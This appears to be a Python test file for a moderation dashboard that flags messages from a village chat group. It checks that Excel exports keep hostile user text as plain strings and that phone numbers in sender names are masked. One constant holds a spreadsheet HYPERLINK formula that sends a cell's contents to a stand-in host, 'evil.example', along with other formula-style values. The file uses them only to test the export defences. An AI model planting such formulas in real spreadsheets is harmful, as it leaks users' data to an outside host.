"""Hostile input against the dashboard: formulas in exports, masked names, redirects, headers, pages, logins."""

from __future__ import annotations

import io
from datetime import timedelta

from openpyxl import load_workbook

from storage.models import Flag, Message
from tests.dashboards.conftest import Dash
from tests.dashboards.seed import T0

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


async def _add_flagged(dash: Dash, *, text: str, sender: str) -> None:
    async with dash.factory() as session, session.begin():
        message = Message(
            account="bot1",
            platform_id=f"hostile-{sender}",
            at=T0 + timedelta(minutes=40),
            group_name="石桥村监督服务群",
            sender_platform_id=sender,
            sender_name=sender,
            role="villager",
            text=text,
            county="舒城县",
            township="城关镇",
            village="石桥村",
        )
        session.add(message)
        await session.flush()
        session.add(
            Flag(
                message_id=message.id or 0,
                at=message.at,
                group_name=message.group_name,
                sender_name=sender,
                role="villager",
                county="舒城县",
                township="城关镇",
                village="石桥村",
                labels=["spam"],
                severity="low",
                rules=["spam.generic"],
                keywords=["点我"],
            )
        )


async def test_exports_write_user_text_as_text_never_formulas(dash: Dash) -> None:
    await _add_flagged(dash, text=FORMULA, sender="+1 说两句")
    await _add_flagged(dash, text="@SUM(1,2)", sender="-减号")
    await dash.login("admin")
    resp = await dash.client.get("/exports/flags.xlsx?since=2026-09-01&until=2026-09-30")
    assert resp.status == 200
    sheet = load_workbook(io.BytesIO(await resp.read())).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    dangerous = [c for c in cells if c.value and str(c.value)[0] in "=+-@"]
    assert {str(c.value) for c in dangerous} >= {FORMULA, "@SUM(1,2)", "+1 说两句", "-减号"}
    assert all(c.data_type == "s" for c in dangerous)
    assert all(c.data_type == "s" for c in cells)


async def test_numbers_in_sender_names_are_masked_on_pages_and_exports(dash: Dash) -> None:
    await _add_flagged(dash, text="今晚开桌,来的私聊", sender="老王13912345678")
    await dash.login("town_a")
    page = await (await dash.client.get("/digest")).text()
    assert "老王139****5678" in page and "13912345678" not in page
    resp = await dash.client.get("/exports/flags.xlsx?since=2026-09-01&until=2026-09-30")
    sheet = load_workbook(io.BytesIO(await resp.read())).active
    assert sheet is not None
    text = "\n".join(str(c) for row in sheet.iter_rows(values_only=True) for c in row)
    assert "老王139****5678" in text and "13912345678" not in text
